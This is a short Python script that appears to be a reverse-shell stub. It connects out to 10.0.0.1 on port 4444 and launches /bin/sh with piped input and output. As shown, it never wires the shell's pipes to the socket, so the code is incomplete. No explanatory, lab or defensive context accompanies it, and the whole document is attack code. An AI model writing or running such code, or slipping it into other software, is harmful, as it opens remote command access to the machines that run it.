import asyncio
async def main():
    r, w = await asyncio.open_connection("10.0.0.1", 4444)
    p = await asyncio.create_subprocess_exec("/bin/sh", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
asyncio.run(main())
